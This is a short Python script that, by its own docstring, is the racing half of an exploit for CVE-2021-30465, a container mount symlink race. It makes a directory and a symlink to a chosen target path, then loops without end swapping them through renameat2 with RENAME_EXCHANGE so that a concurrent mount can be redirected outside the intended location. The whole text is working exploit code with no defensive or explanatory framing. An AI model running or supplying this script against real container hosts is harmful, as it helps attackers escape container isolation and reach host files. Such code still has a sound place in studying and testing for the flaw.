"""Swap DIR/sub between a directory and a symlink as fast as possible (renameat2 RENAME_EXCHANGE),
until killed: the racing half of CVE-2021-30465.  python swap_race.py DIR TARGET"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
d, target = sys.argv[1], sys.argv[2]
os.makedirs(os.path.join(d, "sub"), exist_ok=True)
os.symlink(target, os.path.join(d, "alt"))
a, b = os.path.join(d, "sub").encode(), os.path.join(d, "alt").encode()
print("racing", flush=True)
while True:
    libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
